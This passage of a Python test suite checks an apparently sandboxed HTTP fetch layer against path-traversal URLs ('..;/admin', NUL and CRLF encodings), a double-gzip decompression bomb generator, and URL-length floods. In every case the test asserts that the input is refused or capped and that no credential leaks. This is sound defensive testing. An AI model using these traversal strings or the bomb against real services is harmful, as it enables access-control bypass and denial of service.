    """Tomcat, Jetty and Spring resolve `/v1/..;/admin` to `/admin`."""
    import re

    seen: list[Request] = []
    httpserver.expect_request(re.compile(".*")).respond_with_handler(_echo(seen))
    port = httpserver.port
    bench = _local(gem, opened, port, paths=["/v1/"])
    res = fetch(bench, lang, f"https://localhost:{port}{path}", connection="acme")
    res.raise_for_error()
    assert res.value["denied"]["reason"] == "path not granted", path
    assert [r.headers.get("Authorization") for r in seen] == [None]
    # a path parameter that is not a dot-segment is an ordinary segment under /v1/
    assert fetch(bench, lang, f"https://localhost:{port}/v1/x;v=1", connection="acme").value["denied"] is None
    assert seen[-1].headers.get("Authorization") == f"Bearer {SECRET}"


def test_SEC4_matrix_dot_segment_redirect_and_nul_in_paths(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    import re

    seen: list[Request] = []
    echo = _echo(seen)

    def route(req: Request) -> Response:
        if req.path == "/v1/start":
            seen.append(req)
            return Response("", status=307, headers={"Location": "/v1/..;/admin"})
        if req.path == "/v1/nul":
            seen.append(req)
            return Response("", status=307, headers={"Location": "/v1/..%00/admin"})
        return echo(req)

    httpserver.expect_request(re.compile(".*")).respond_with_handler(route)
    port = httpserver.port
    bench = _local(gem, opened, port, paths=["/v1/"])
    res = fetch(bench, lang, f"https://localhost:{port}/v1/start", connection="acme")
    res.raise_for_error()
    assert res.value["denied"]["reason"] == "path not granted"
    assert [r.headers.get("Authorization") for r in seen] == [f"Bearer {SECRET}", None]
    for path in ("/v1/..%00/admin", "/v1/%00/x", "/v1/a%0d%0ab", "/v1/%2500/x", "/v1/%7f"):
        res = fetch(bench, lang, f"https://localhost:{port}{path}", connection="acme")
        assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", path
        assert "control character" in res.error.message
    assert len(seen) == 2
    res = fetch(bench, lang, f"https://localhost:{port}/v1/nul", connection="acme")
    assert res.error is not None and res.error.code == "E_HTTP" and "invalid URL" in res.error.message
    assert len(seen) == 3 and SECRET not in str(res.error)


_BOMB: dict[int, bytes] = {}


def _zeros_gzip(mib: int) -> bytes:
    """gzip of `mib` MiB of zeros, built from one compressed block repeated (fast and small)."""
    import struct
    import zlib

    zeros = b"\0" * MiB
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)  # the same bytes for every MiB
    end = c.flush()[:-8]
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    return b"".join([first, block * (mib - 1), end, struct.pack("<II", crc, (mib * MiB) & 0xFFFFFFFF)])


def double_gzip_bomb(mib: int = 2048) -> bytes:
    """gzip(gzip(2 GiB of zeros)): about 5 KB on the wire."""
    import gzip

    if mib not in _BOMB:
        _BOMB[mib] = gzip.compress(_zeros_gzip(mib), 9)
    return _BOMB[mib]


def test_SEC5_double_gzip_bomb_is_cut_at_the_cap_quickly(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    """httpx inflated a whole layer in one zlib call: 22 s and 6 GB before E_TOO_LARGE. The
    peak (tracemalloc, not a stopwatch) proves the layers are inflated in bounded steps; and
    E_TOO_LARGE that the cap was reached within the 3 s http_timeout, since the steps check the
    deadline between them (running out is E_HTTP, reason "timeout")."""
    bomb = double_gzip_bomb()
    assert len(bomb) < 16 * 1024
    httpserver.expect_request("/bomb").respond_with_handler(
        lambda req: Response(
            bomb, content_type="application/json", headers={"Content-Encoding": "gzip, gzip"}
        )
    )
    bench = opened(http_gem(gem, {}), http="real", private_hosts=LOCAL, http_timeout=3.0)
    bench.call(f"fetch_{lang}", {"url": httpserver.url_for("/none")})  # start the sandbox first
    tracemalloc.start()
    try:
        res = fetch(bench, lang, httpserver.url_for("/bomb"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert res.error is not None and res.error.code == "E_TOO_LARGE", res.value if res.ok else res.error
    assert "http_body_bytes" in res.error.message
    assert peak < 96 * MiB, peak / MiB


def test_N10_encoded_bodies_are_decoded_within_the_cap(
    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
) -> None:
    import gzip
    import zlib

    text = "résumé " * 3000
    bodies = {
        "gzip": gzip.compress(text.encode()),
        "x-gzip": gzip.compress(text.encode()),
        "deflate": zlib.compress(text.encode()),
        "gzip, gzip": gzip.compress(gzip.compress(text.encode())),
        "deflate, gzip": gzip.compress(zlib.compress(text.encode())),
        "identity": text.encode(),
    }
    for enc, body in bodies.items():
        httpserver.expect_request("/enc", query_string={"e": enc}).respond_with_data(
            body, headers={"Content-Encoding": enc}, content_type="text/plain; charset=utf-8"
        )
    httpserver.expect_request("/enc", query_string={"e": "br"}).respond_with_data(
        b"\x8b\x02\x80hi\x03", headers={"Content-Encoding": "br"}
    )
    httpserver.expect_request("/enc", query_string={"e": "bad"}).respond_with_data(
        b"not gzip at all", headers={"Content-Encoding": "gzip"}
    )
    bench = opened(
        http_gem(gem, {}),
        http="real",
        private_hosts=LOCAL,
        limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode())),
    )
    from urllib.parse import quote as q

    for enc in bodies:
        res = fetch(bench, lang, httpserver.url_for("/enc") + "?e=" + q(enc))
        res.raise_for_error()
        assert res.value["text"] == text[:2000], enc
    res = fetch(bench, lang, httpserver.url_for("/enc") + "?e=br")  # not known: as received
    assert res.value["status"] == 200 and "hi" in res.value["text"]
    res = fetch(bench, lang, httpserver.url_for("/enc") + "?e=bad")
    assert res.error is not None and res.error.code == "E_HTTP", res.value
    small = opened(
        gem,
        http="real",
        private_hosts=LOCAL,
        state_dir=gem.root.parent / "s2",
        limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode()) - 1),
    )
    res = fetch(small, lang, httpserver.url_for("/enc") + "?e=" + q("gzip, gzip"))
    assert res.error is not None and res.error.code == "E_TOO_LARGE"


# == SEC5: a fetch URL has a length limit, checked before it is parsed ===========================

URL_FLOOD = {
    "py": """
def handle(i, ctx):
    out = []
    for k, size in enumerate(i["sizes"]):
        url = f"https://api.acme.example/v1/{k:08}?q=" + i["fill"] * (size - 39)
        try:
            out.append(["sent", ctx.http.fetch(url).status])
        except Exception as exc:
            out.append([exc.code, exc.message[:400], exc.details.get("limit")])
    return out
""",
    "js": """
export default async function (i, ctx) {
  const out = [];
  for (const [k, size] of i.sizes.entries()) {
    const url = `https://api.acme.example/v1/${String(k).padStart(8, "0")}?q=` + i.fill.repeat(size - 39);
    try { out.push(["sent", (await ctx.http.fetch(url)).status]); }
    catch (e) { out.push([e.code, e.message.slice(0, 400), e.details?.limit ?? null]); }
  }
  return out;
}
""",
}


@pytest.mark.parametrize("lang", ["py", pytest.param("js", marks=pytest.mark.deno)])
def test_SEC5_fetch_url_length_is_capped_before_parsing(gem: GemBuilder, opened: Callable, lang: str) -> None:
    """40 fetches of distinct 1 MiB URLs: urllib's urlsplit keeps its last 128 URLs (and their
    parts) process-wide, so each URL parsed stayed in the bench's process after the call, 80 MB
    here; now a URL over Limits.url_chars (64 KiB) is E_INVALID_ARGUMENT naming the limit before
    anything parses it, and the process grows by less than 4 MiB. A URL of exactly the limit is
    sent; one the limit long as given but over it percent-encoded (what is sent) is refused."""
    import gc

    gem.tool("flood", URL_FLOOD[lang], ext=lang)
    gem.manifest["permissions"] = {"http": {"connections": {"acme": {"hosts": ["api.acme.example"]}}}}
    limits = dataclasses.replace(DEFAULT, http_log_chars=MiB, trace_chars=MiB, results_bench_chars=2 * MiB)
    bench = opened(
        gem, limits=limits, http=[{"match": "https://api.acme.example/", "respond": {"text": "ok"}}]
    )
    cap = DEFAULT.url_chars
    assert cap == 64 * 1024
    edge = bench.call("flood", {"sizes": [cap, cap + 1], "fill": "x"}).value
    assert edge[0] == ["sent", 200], edge[0]
    assert edge[1][0] == "E_INVALID_ARGUMENT" and edge[1][2] == "url_chars", edge[1]
    assert "65,537 characters" in edge[1][1] and "Limits.url_chars" in edge[1][1] and "65,536" in edge[1][1]
    encoded = bench.call("flood", {"sizes": [cap // 2], "fill": "é"}).value  # 6 characters sent
    assert encoded[0][0] == "E_INVALID_ARGUMENT" and encoded[0][2] == "url_chars", encoded
    assert "percent-encoded" in encoded[0][1], encoded
    tracemalloc.start()
    try:
        gc.collect()
        before = tracemalloc.get_traced_memory()[0]
        value = bench.call("flood", {"sizes": [MiB] * 40, "fill": lang[0]}).value  # URLs of its own
        gc.collect()
        grown = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert [row[0] for row in value] == ["E_INVALID_ARGUMENT"] * 40, value[:1]
    assert grown < 4 * MiB, f"the process kept {grown:,} bytes more"


def test_SEC5_a_redirect_to_an_overlong_url_is_refused(gem: GemBuilder, opened: Callable) -> None:
    """A server's Location over Limits.url_chars is E_HTTP "bad redirect" naming the limit,
    before urljoin parses it."""
    long = "https://api.acme.example/v1/" + "z" * DEFAULT.url_chars
    handlers = [
        {
            "match": "https://api.acme.example/v1/start",
            "respond": {"status": 302, "headers": {"Location": long}},
        },
        {"match": lambda r: True, "respond": {"text": "followed"}},
    ]
    gem.tool("fetch_py", PY_FETCH)
    gem.manifest["permissions"] = {"http": {"connections": copy.deepcopy(ACME)}}
    res = fetch(opened(gem, http=handlers), "py", "https://api.acme.example/v1/start")
    assert res.error is not None and res.error.code == "E_HTTP", res.value
    assert res.error.details["reason"] == "bad redirect" and "Limits.url_chars" in res.error.message


# == SEC4: a call fetches under the grants it started with ====================================
MIDCALL = {
    "py": """
def handle(input, ctx):
    ctx.http.fetch("https://api.acme.example/v1/first")
    r = ctx.http.fetch("https://api.acme.example/v1/second", {"connection": "acme"})
    return {"text": r.text(), "denied": r.credentialDenied}
""",
    "js": """
export default async function (input, ctx) {
  await ctx.http.fetch("https://api.acme.example/v1/first");
  const r = await ctx.http.fetch("https://api.acme.example/v1/second", { connection: "acme" });
  return { text: await r.text(), denied: r.credentialDenied ?? null };
}
""",
}


def test_SEC4_a_grant_added_mid_call_does_not_reach_the_running_call(
    gem: GemBuilder, opened: Callable, lang: str
) -> None:
    """The manifest grants no connection; at the call's first fetch the author adds one, in
    the open bench's manifest and in manifest.json, and widens it again in place. The call's
    later fetch goes out without the credential; the next call, the edit reloaded, has it."""
    import json

    grant = {"hosts": ["api.acme.example"], "paths": ["/v1/"]}
    rec, holder = Recorder(), []

    def edit(req: HttpRequest) -> dict[str, Any]:
        bench = holder[0]
        conns = bench.manifest.permissions["http"]["connections"]
        conns["acme"] = copy.deepcopy(grant)
        for t in bench.manifest.tools.values():
            t.permissions.setdefault("http", {}).setdefault("connections", {})["acme"] = copy.deepcopy(grant)
        path = gem.root / "manifest.json"
        manifest = json.loads(path.read_text())
        manifest["permissions"]["http"]["connections"] = {"acme": grant}
        path.write_text(json.dumps(manifest))
        return {"text": "first"}

    gem.tool("mid", MIDCALL[lang], ext=lang)
    bench = opened(
        http_gem(gem, {}),
        http=[
            {"match": "https://api.acme.example/v1/first", "respond": edit},
            {"match": "https://api.acme.example/", "respond": rec},
        ],
        credentials=creds("api.acme.example"),
    )
    holder.append(bench)
    res = bench.call("mid").raise_for_error()
    assert rec.auth == [[]] and res.value["denied"] == {
        "reason": "unknown connection",
        "host": "api.acme.example",
    }
    assert bench.call("mid").raise_for_error().value["denied"] is None  # reloaded before it
    assert rec.auth == [[], [f"Bearer {SECRET}"]]
